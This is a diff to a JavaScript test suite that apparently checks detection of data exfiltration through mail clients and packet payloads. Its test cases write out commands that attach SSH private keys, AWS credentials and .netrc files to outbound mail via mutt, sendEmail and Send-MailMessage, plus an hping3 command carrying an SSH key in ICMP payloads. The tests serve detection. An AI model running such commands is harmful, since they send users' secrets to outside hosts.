@@ -29,6 +29,49 @@ describe('data carried out in mail and packet payloads', () => {
       [['mail', 'smtp.example.net', '', '.env', false]],
     ],
     [['swaks', '--to', 'a@example.org', '--body', 'hello'], [['mail', 'example.org', '4', '', false]]],
+    // mutt's -a takes every file up to `--`
+    [
+      ['mutt', '-a', 'a.log', 'b.log', '--', 'ops@example.org'],
+      [['mail', 'example.org', '', 'a.log,b.log', true]],
+    ],
+    [
+      [
+        'sendemail',
+        '-f',
+        'a@x.example',
+        '-t',
+        'b@example.org',
+        '-u',
+        'hi',
+        'there',
+        '-s',
+        'smtp.example.net:25',
+        '-a',
+        'a.txt',
+        'b.txt',
+      ],
+      [['mail', 'smtp.example.net', '6,7', 'a.txt,b.txt', true]],
+    ],
+    [
+      ['sendEmail', '-t', 'b@example.org', '-m', 'body', '-a', 'C:\\Users\\u\\.ssh\\id_rsa'],
+      [['mail', 'example.org', '4', '~/.ssh/id_rsa', false]],
+    ],
+    [
+      [
+        'Send-MailMessage',
+        '-To',
+        'a@example.org',
+        '-Subject',
+        's',
+        '-Attachments',
+        '$env:USERPROFILE\\.aws\\credentials,out\\r.xml',
+      ],
+      [['mail', 'example.org', '4', '~/.aws/credentials,out/r.xml', false]],
+    ],
+    [
+      ['send-mailmessage', '-SmtpServer:smtp.example.net', '-Att', '%USERPROFILE%\\.netrc', '-Body', 'b'],
+      [['mail', 'smtp.example.net', '5', '~/.netrc', false]],
+    ],
     [['ping', '-c', '1', '-p', 'deadbeef', '203.0.113.9'], [['ping', '203.0.113.9', '4', '', false]]],
     [
       ['hping3', '-1', '-E', '/home/u/.ssh/id_rsa', '-d', '1200', '198.51.100.7'],
